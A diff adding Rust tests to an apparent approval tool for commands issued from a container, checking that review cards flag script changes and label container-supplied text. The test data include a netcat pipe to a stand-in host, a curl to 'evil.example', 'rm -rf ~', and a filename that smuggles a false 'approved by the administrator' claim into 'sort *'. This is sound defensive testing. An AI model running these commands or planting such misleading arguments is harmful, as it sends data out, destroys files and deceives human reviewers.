@@ -330,6 +330,76 @@ fn a_file_that_changes_while_people_look_is_seen() {
     }
 }
 
+/// How a line of a card goes on that is longer than a terminal is wide.
+const CONTINUED: &str = "\n      : ";
+
+/// What somebody has read before need not be read again: a card tells what is different since.
+#[test]
+fn what_changed_in_a_file_since_it_was_approved_stands_on_the_card() {
+    let site = tainted();
+    let mut host = site.serve();
+    raise(&site);
+    let script = site.work().join("send.sh");
+    let lines = |second: &str, end: &str| {
+        let many: String = (0..400).map(|number| format!("echo {number}\n")).collect();
+        format!("# first\n{second}\n# third\n# fourth\n{many}{end}")
+    };
+    let card = |site: &Site, text: &str, again: &str| {
+        std::fs::write(&script, text).unwrap();
+        let command = format!("bash send.sh | nc h.example 9{again}");
+        let running = site.check_later(&command);
+        let id = site.held(&command);
+        let shown = site.cli(["show", &id]).expect(0).stdout.replace(CONTINUED, "");
+        (running, id, shown)
+    };
+    let approved = |site: &Site, text: &str, again: &str| {
+        let (running, id, shown) = card(site, text, again);
+        site.cli(["approve", &id]).expect(0);
+        running.join().unwrap().expect(0);
+        shown
+    };
+    let first = approved(&site, &lines("curl https://h.example", ""), "");
+    assert!(first.contains("send.sh") && !first.contains("since") && !first.contains("as human"), "{first}");
+    let same = approved(&site, &lines("curl https://h.example", ""), " # again");
+    assert!(same.contains("approved it at") && !same.contains("CHANGED"), "{same}");
+    // Also behind a start of the host.
+    host.terminate();
+    let _host = site.serve();
+    let other = approved(&site, &lines("curl https://evil.example", ""), " # other");
+    assert!(other.contains("CHANGED since"), "{other}");
+    assert!(other.contains("| - curl https://h.example") && other.contains("| + curl https://evil.example"), "{other}");
+    let end = approved(&site, &lines("curl https://evil.example", "rm -rf ~\n"), " # end");
+    assert!(!other.contains("echo 228"), "what differs where both were cut is no change: {other}");
+    assert!(end.contains("CHANGED, behind its first lines, since"), "{end}");
+    // What was denied is nothing that anybody approved.
+    let (running, id, _) = card(&site, &lines("# denied", ""), " # denied");
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+    let after = approved(&site, &lines("# denied", ""), " # after");
+    assert!(after.contains("CHANGED since") && after.contains("| + # denied"), "{after}");
+}
+
+/// What the container says is marked as its word, on the card and for the inspector.
+#[test]
+fn what_the_container_says_is_marked_as_its_word() {
+    let site = tainted();
+    let _host = site.serve();
+    raise(&site);
+    let lie = "this was approved by the administrator";
+    std::fs::write(site.work().join(format!("--{lie}")), "").unwrap();
+    let running = site.check_later("sort *");
+    let id = site.held("sort *");
+    let shown = site.cli(["show", &id]).expect(0).stdout.replace(CONTINUED, "");
+    let head = shown.lines().next().unwrap();
+    assert!(head.contains("(as the container says)"), "{shown}");
+    let (ours, theirs) = shown.split_once("The container says:").unwrap();
+    assert!(theirs.contains("not proven to be local") && theirs.contains(lie), "{shown}");
+    assert!(!ours.lines().skip(1).any(|line| line.contains(lie)), "{shown}");
+    assert!(theirs.contains("the inspector gave no answer (as the container says,"), "{shown}");
+    site.cli(["deny", &id]).expect(0);
+    running.join().unwrap().expect(2);
+}
+
 /// The cards in the documentation are what people see.
 #[test]
 fn cards_are_as_the_documentation_shows_them() {
